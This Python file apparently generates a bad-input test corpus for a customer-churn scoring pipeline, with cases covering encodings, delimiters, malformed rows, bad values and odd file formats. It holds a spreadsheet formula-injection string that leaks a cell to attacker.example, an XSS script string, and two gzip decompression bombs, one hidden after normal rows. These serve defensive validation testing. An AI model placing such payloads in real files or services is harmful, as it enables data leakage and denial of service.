"""Write the bad-input corpus deterministically (nothing binary is committed).

Every case in ``cases.csv`` has a builder here keyed by its ``id`` that returns the file's bytes.
The feature schema the corpus is written against is :data:`SCHEMA` (the churn shape used across
the test suite): ``tenure`` and ``charges`` numeric, ``plan`` categorical, id ``customer_id``.

Usage: ``python tests/data/bad/generate.py OUT_DIR`` writes every case file into ``OUT_DIR``;
the tests call :func:`write_corpus` with a temporary directory.
"""

from __future__ import annotations

import csv
import gzip
import io
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

HERE = Path(__file__).resolve().parent
CASES_CSV = HERE / "cases.csv"

HEADER = ["customer_id", "tenure", "charges", "plan"]
PLANS = ("basic", "pro", "max")
N_ROWS = 10
#: Decompressed size cap used for the gzip-bomb case (the bomb inflates far past it).
BOMB_CAP_BYTES = 1024 * 1024
BOMB_INFLATED_BYTES = 64 * 1024 * 1024
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
SCRIPT = "<script>alert('x')</script>"


def base_rows(n: int = N_ROWS) -> list[list[str]]:
    """``n`` valid rows as text, in HEADER order."""
    return [[f"c{i + 1:04d}", f"{3.5 * (i + 1):.1f}", f"{20 + 7.25 * i:.2f}", PLANS[i % 3]] for i in range(n)]


def to_csv(rows: list[list[str]], *, header: list[str] = HEADER, sep: str = ",", eol: str = "\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=sep, lineterminator=eol)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def with_value(row: int, column: str, value: str, rows: list[list[str]] | None = None) -> list[list[str]]:
    """Base rows with data row ``row`` (1-based) of ``column`` replaced by ``value``."""
    rows = [list(r) for r in (rows or base_rows())]
    rows[row - 1][HEADER.index(column)] = value
    return rows


def parquet_bytes(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


def base_table(n: int = N_ROWS) -> pa.Table:
    rows = base_rows(n)
    return pa.table(
        {
            "customer_id": [r[0] for r in rows],
            "tenure": [float(r[1]) for r in rows],
            "charges": [float(r[2]) for r in rows],
            "plan": [r[3] for r in rows],
        }
    )


@dataclass(frozen=True)
class Case:
    """One row of cases.csv (see its header for the meaning of each field)."""

    id: str
    file_name: str
    topic: str
    description: str
    expected: str  # accepted | rows_rejected | file_rejected
    reason: str  # InputRejectedError.reason for file_rejected
    rows_in: int | None
    rows_rejected: int
    rejected_rows: tuple[tuple[int, str], ...]  # (1-based data row, column) of each rejected row
    message_contains: tuple[str, ...]  # besides the file name, which every error must name
    handler: bool  # also run through the score handler on moto
    s3_key: str  # key under the data bucket for the handler run ("" = incoming/churn/corpus/<id>/<file>)
    handler_expected: str  # outcome through the score handler when it differs ("" = expected)
    handler_reason: str  # reason through the score handler when it differs ("" = reason)

    @property
    def key(self) -> str:
        return self.s3_key or f"incoming/churn/corpus/{self.id}/{self.file_name}"


def load_cases(path: Path = CASES_CSV) -> list[Case]:
    with path.open(newline="", encoding="utf-8") as f:
        out = []
        for r in csv.DictReader(f):
            out.append(
                Case(
                    id=r["id"],
                    file_name=r["file_name"],
                    topic=r["topic"],
                    description=r["description"],
                    expected=r["expected"],
                    reason=r["reason"],
                    rows_in=int(r["rows_in"]) if r["rows_in"] else None,
                    rows_rejected=int(r["rows_rejected"] or 0),
                    rejected_rows=tuple(_row_column(x) for x in r["rejected_rows"].split(";") if x),
                    message_contains=tuple(x for x in r["message_contains"].split(";") if x),
                    handler=r["handler"] == "yes",
                    s3_key=r["s3_key"],
                    handler_expected=r["handler_expected"] or r["expected"],
                    handler_reason=r["handler_reason"] or r["reason"],
                )
            )
    return out


def _row_column(text: str) -> tuple[int, str]:
    row, column = text.split(":", 1)
    return int(row), column


BUILDERS: dict[str, Callable[[], bytes]] = {}


def case(case_id: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
        BUILDERS[case_id] = fn
        return fn

    return register


# ------------------------------------------------------------------------------------ control
@case("valid_csv")
def _valid_csv() -> bytes:
    return to_csv(base_rows()).encode()


@case("valid_parquet")
def _valid_parquet() -> bytes:
    return parquet_bytes(base_table())


@case("valid_csv_gz")
def _valid_csv_gz() -> bytes:
    return gzip.compress(to_csv(base_rows()).encode(), mtime=0)


# ----------------------------------------------------------------------------------- encodings
@case("utf8_bom")
def _utf8_bom() -> bytes:
    return b"\xef\xbb\xbf" + to_csv(base_rows()).encode()


@case("utf16le_bom")
def _utf16le() -> bytes:
    return to_csv(base_rows()).encode("utf-16")  # BOM + little endian


@case("utf16be_no_bom")
def _utf16be() -> bytes:
    return to_csv(base_rows()).encode("utf-16-be")


@case("latin1_in_feature")
def _latin1_feature() -> bytes:
    return to_csv(with_value(4, "plan", "pr\u00e9mium")).encode("latin-1")


@case("latin1_in_ignored_column")
def _latin1_ignored() -> bytes:
    rows = [[*r, "caf\u00e9" if i == 2 else "x"] for i, r in enumerate(base_rows())]
    return to_csv(rows, header=[*HEADER, "note"]).encode("latin-1")


@case("utf8_multibyte_values")
def _utf8_multibyte() -> bytes:
    rows = with_value(2, "customer_id", "k\u00fcnde-\u6771\u4eac-\U0001f600")
    return to_csv(rows).encode()


# ---------------------------------------------------------------------------------- delimiters
@case("semicolon_delimited")
def _semicolon() -> bytes:
    return to_csv(base_rows(), sep=";").encode()


@case("tab_delimited")
def _tab() -> bytes:
    return to_csv(base_rows(), sep="\t").encode()


@case("pipe_delimited")
def _pipe() -> bytes:
    return to_csv(base_rows(), sep="|").encode()


@case("crlf_line_endings")
def _crlf() -> bytes:
    return to_csv(base_rows(), eol="\r\n").encode()


@case("no_trailing_newline")
def _no_trailing_newline() -> bytes:
    return to_csv(base_rows()).rstrip("\n").encode()


@case("blank_lines_between_rows")
def _blank_lines() -> bytes:
    lines = to_csv(base_rows()).splitlines()
    return ("\n\n".join(lines) + "\n\n").encode()


# ------------------------------------------------------------------------------------- quoting
@case("quoted_comma_in_id")
def _quoted_comma() -> bytes:
    return to_csv(with_value(3, "customer_id", "c0003, ltd")).encode()


@case("escaped_quotes_in_id")
def _escaped_quotes() -> bytes:
    return to_csv(with_value(3, "customer_id", 'c0003 "the" customer')).encode()


@case("embedded_newline_in_id")
def _embedded_newline() -> bytes:
    return to_csv(with_value(5, "customer_id", "c0005\nsecond line")).encode()


@case("unbalanced_quote")
def _unbalanced_quote() -> bytes:
    text = to_csv(base_rows())
    lines = text.splitlines()
    lines[4] = lines[4].replace("c0004", '"c0004')
    return ("\n".join(lines) + "\n").encode()


@case("ragged_row_extra_field")
def _ragged_extra() -> bytes:
    lines = to_csv(base_rows()).splitlines()
    lines[6] += ",surplus"
    return ("\n".join(lines) + "\n").encode()


@case("ragged_row_missing_field")
def _ragged_missing() -> bytes:
    lines = to_csv(base_rows()).splitlines()
    lines[6] = lines[6].rsplit(",", 1)[0]
    return ("\n".join(lines) + "\n").encode()


# ------------------------------------------------------------------------------------- shape
@case("ten_thousand_columns")
def _wide() -> bytes:
    extra = [f"x{i:05d}" for i in range(10_000 - len(HEADER))]
    rows = [[*r, *("0" for _ in extra)] for r in base_rows()]
    return to_csv(rows, header=[*HEADER, *extra]).encode()


@case("one_column_file")
def _one_column() -> bytes:
    return ("customer_id\n" + "\n".join(r[0] for r in base_rows()) + "\n").encode()


@case("zero_bytes")
def _zero() -> bytes:
    return b""


@case("whitespace_only")
def _whitespace() -> bytes:
    return b"\n \n\t\n"


@case("header_only")
def _header_only() -> bytes:
    return (",".join(HEADER) + "\n").encode()


@case("missing_required_column")
def _missing_column() -> bytes:
    rows = [[r[0], r[1], r[3]] for r in base_rows()]
    return to_csv(rows, header=["customer_id", "tenure", "plan"]).encode()


@case("missing_id_column")
def _missing_id() -> bytes:
    rows = [r[1:] for r in base_rows()]
    return to_csv(rows, header=HEADER[1:]).encode()


@case("duplicate_column_names")
def _duplicate_columns() -> bytes:
    rows = [[*r, r[1]] for r in base_rows()]
    return to_csv(rows, header=[*HEADER, "tenure"]).encode()


@case("empty_column_name")
def _empty_column_name() -> bytes:
    rows = [[*r, "1"] for r in base_rows()]
    return to_csv(rows, header=[*HEADER, ""]).encode()


@case("reordered_and_extra_columns")
def _reordered() -> bytes:
    rows = [[r[3], "extra", r[2], r[0], r[1]] for r in base_rows()]
    return to_csv(rows, header=["plan", "unused", "charges", "customer_id", "tenure"]).encode()


# ----------------------------------------------------------------------------------- values
@case("nan_text_values")
def _nan_text() -> bytes:
    rows = with_value(2, "tenure", "NaN")
    rows = with_value(5, "charges", "nan", rows)
    rows = with_value(7, "tenure", "N/A", rows)
    return to_csv(rows).encode()


@case("inf_text_values")
def _inf_text() -> bytes:
    rows = with_value(3, "tenure", "inf")
    rows = with_value(6, "charges", "-Infinity", rows)
    return to_csv(rows).encode()


@case("huge_number_overflows")
def _overflow() -> bytes:
    return to_csv(with_value(4, "charges", "1e400")).encode()


@case("huge_finite_numbers")
def _huge_finite() -> bytes:
    rows = with_value(2, "charges", "1e300")
    rows = with_value(3, "tenure", "1234567890123456789012345678901234567890", rows)
    return to_csv(rows).encode()


@case("date_in_numeric_column")
def _date_in_numeric() -> bytes:
    return to_csv(with_value(8, "tenure", "2024-01-05")).encode()


@case("thousands_separator")
def _thousands() -> bytes:
    return to_csv(with_value(9, "charges", "1,234.50")).encode()


@case("non_numeric_text")
def _non_numeric() -> bytes:
    rows = with_value(2, "tenure", "abc")
    rows = with_value(10, "charges", "12 USD", rows)
    return to_csv(rows).encode()


@case("whitespace_padded_numbers")
def _padded() -> bytes:
    return to_csv(with_value(1, "tenure", "  12.5 ")).encode()


@case("all_null_column")
def _all_null() -> bytes:
    rows = [[r[0], r[1], "", r[3]] for r in base_rows()]
    return to_csv(rows).encode()


@case("mostly_bad_rows")
def _mostly_bad() -> bytes:
    rows = base_rows()
    for i in range(7):
        rows[i][1] = "bad"
    return to_csv(rows).encode()


@case("unseen_category")
def _unseen_category() -> bytes:
    return to_csv(with_value(2, "plan", "platinum")).encode()


@case("duplicate_ids")
def _duplicate_ids() -> bytes:
    rows = base_rows()
    rows[5][0] = rows[4][0]
    rows[6][0] = rows[4][0]
    return to_csv(rows).encode()


@case("formula_strings")
def _formula() -> bytes:
    rows = with_value(1, "customer_id", FORMULA)
    rows = with_value(2, "plan", "=1+2", rows)
    rows = with_value(3, "customer_id", "@SUM(A1:A9)", rows)
    rows = with_value(4, "plan", SCRIPT, rows)
    return to_csv(rows).encode()


# ----------------------------------------------------------------------------- compression
@case("truncated_csv_gz")
def _truncated_gz() -> bytes:
    full = gzip.compress(to_csv(base_rows(2000)).encode(), mtime=0)
    return full[: len(full) // 2]


@case("gzip_bomb")
def _bomb() -> bytes:
    # A valid header and row, then BOMB_INFLATED_BYTES of blank lines: ~64 KiB on disk.
    head = to_csv(base_rows(1)).encode()
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, compresslevel=9) as gz:
        gz.write(head)
        block = b"\n" * (1024 * 1024)
        for _ in range(BOMB_INFLATED_BYTES // len(block)):
            gz.write(block)
    return buf.getvalue()


@case("gzip_bomb_after_normal_rows")
def _tail_bomb() -> bytes:
    # ~130 KiB of hardly compressible rows first, so the size estimate (from the first 64 KiB of
    # compressed data) sees an ordinary ratio; then 64 MiB of blank lines.
    import random

    rng = random.Random(0)
    rows = [
        [f"c{i:06d}", f"{rng.uniform(0, 72):.6f}", f"{rng.uniform(10, 120):.6f}", rng.choice(PLANS)]
        for i in range(8000)
    ]
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, compresslevel=9) as gz:
        gz.write(to_csv(rows).encode())
        block = b"\n" * (1024 * 1024)
        for _ in range(BOMB_INFLATED_BYTES // len(block)):
            gz.write(block)
    return buf.getvalue()


@case("csv_gz_not_gzip")
def _gz_not_gzip() -> bytes:
    return to_csv(base_rows()).encode()


@case("gzip_named_csv")
def _gzip_named_csv() -> bytes:
    return gzip.compress(to_csv(base_rows()).encode(), mtime=0)


# -------------------------------------------------------------------------- format/extension
@case("parquet_named_csv")
def _parquet_named_csv() -> bytes:
    return parquet_bytes(base_table())


@case("csv_named_parquet")
def _fake_parquet() -> bytes:
    return to_csv(base_rows()).encode()


@case("truncated_parquet")
def _truncated_parquet() -> bytes:
    data = parquet_bytes(base_table(200))
    return data[: len(data) // 2]


@case("xlsx_extension")
def _xlsx() -> bytes:
    return b"PK\x03\x04" + b"\x00" * 60  # a zip container header, as an .xlsx starts


@case("txt_extension")
def _txt() -> bytes:
    return to_csv(base_rows()).encode()


@case("no_extension")
def _no_ext() -> bytes:
    return to_csv(base_rows()).encode()


# ---------------------------------------------------------------------------------- parquet
@case("parquet_different_schema")
def _parquet_other_schema() -> bytes:
    t = base_table().rename_columns(["id", "months", "monthly_charges", "tier"])
    return parquet_bytes(t)


@case("parquet_numeric_as_strings")
def _parquet_strings() -> bytes:
    t = base_table()
    t = t.set_column(1, "tenure", pa.array([f"{v:.1f}" for v in t.column("tenure").to_pylist()]))
    t = t.set_column(
        2, "charges", pa.array(["12.5", "oops", *[str(v) for v in t.column("charges")[2:].to_pylist()]])
    )
    return parquet_bytes(t)


@case("parquet_int_and_dictionary_types")
def _parquet_types() -> bytes:
    t = base_table()
    t = t.set_column(1, "tenure", pa.array(range(1, N_ROWS + 1), pa.int32()))
    t = t.set_column(3, "plan", t.column("plan").dictionary_encode())
    return parquet_bytes(t)


@case("parquet_nested_feature")
def _parquet_nested_feature() -> bytes:
    t = base_table()
    nested = pa.array([{"value": float(i), "unit": "m"} for i in range(N_ROWS)])
    return parquet_bytes(t.set_column(1, "tenure", nested))


@case("parquet_list_feature")
def _parquet_list_feature() -> bytes:
    t = base_table()
    return parquet_bytes(t.set_column(3, "plan", pa.array([["basic", "pro"]] * N_ROWS)))


@case("parquet_nested_extra_column")
def _parquet_nested_extra() -> bytes:
    t = base_table()
    return parquet_bytes(t.append_column("meta", pa.array([{"a": [1, 2], "b": {"c": "d"}}] * N_ROWS)))


@case("parquet_timestamp_in_numeric")
def _parquet_timestamp() -> bytes:
    import datetime as dt

    t = base_table()
    stamps = pa.array([dt.datetime(2024, 1, 1 + i) for i in range(N_ROWS)], pa.timestamp("us"))
    return parquet_bytes(t.set_column(1, "tenure", stamps))


@case("parquet_zero_rows")
def _parquet_empty() -> bytes:
    return parquet_bytes(base_table().slice(0, 0))


@case("parquet_null_typed_column")
def _parquet_null_type() -> bytes:
    t = base_table()
    return parquet_bytes(t.set_column(2, "charges", pa.nulls(N_ROWS)))


@case("parquet_inf_and_nan_values")
def _parquet_inf() -> bytes:
    t = base_table()
    vals = t.column("charges").to_pylist()
    vals[2], vals[5] = float("inf"), float("nan")
    return parquet_bytes(t.set_column(2, "charges", pa.array(vals, pa.float64())))


@case("parquet_duplicate_columns")
def _parquet_dupes() -> bytes:
    t = base_table()
    return parquet_bytes(pa.Table.from_arrays([*t.columns, t.column("tenure")], names=[*HEADER, "tenure"]))


# ------------------------------------------------------------------------------------ jsonl
@case("jsonl_valid")
def _jsonl() -> bytes:
    import json

    lines = [
        json.dumps(dict(zip(HEADER, [r[0], float(r[1]), float(r[2]), r[3]], strict=True)))
        for r in base_rows()
    ]
    return ("\n".join(lines) + "\n").encode()


@case("jsonl_malformed")
def _jsonl_bad() -> bytes:
    return (
        b'{"customer_id": "c1", "tenure": 1.0, "charges": 2.0, "plan": "pro"}\n{"customer_id": "c2", tenure\n'
    )


# -------------------------------------------------------------------------------------- keys
@case("key_with_spaces_and_unicode")
def _key_unicode() -> bytes:
    return to_csv(base_rows()).encode()


@case("key_with_dotdot_segments")
def _key_dotdot() -> bytes:
    return to_csv(base_rows()).encode()


@case("key_dotdot_as_model")
def _key_dotdot_model() -> bytes:
    return to_csv(base_rows()).encode()


@case("key_with_double_slash")
def _key_double_slash() -> bytes:
    return to_csv(base_rows()).encode()


@case("key_url_encoded_literal")
def _key_urlencoded() -> bytes:
    return to_csv(base_rows()).encode()


def build(case_id: str) -> bytes:
    """The bytes of one case."""
    return BUILDERS[case_id]()


def write_corpus(dest: Path, cases: list[Case] | None = None) -> dict[str, Path]:
    """Write every case's file under ``dest/<case id>/<file name>``; returns id -> path.

    One directory per case so names such as ``data.csv`` can repeat and a case's output directory
    sits next to it.
    """
    out = {}
    for c in cases or load_cases():
        d = dest / c.id
        d.mkdir(parents=True, exist_ok=True)
        p = d / c.file_name
        p.write_bytes(build(c.id))
        out[c.id] = p
    return out


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: generate.py OUT_DIR")
    for cid, path in write_corpus(Path(sys.argv[1])).items():
        print(f"{cid}\t{path}\t{path.stat().st_size}")
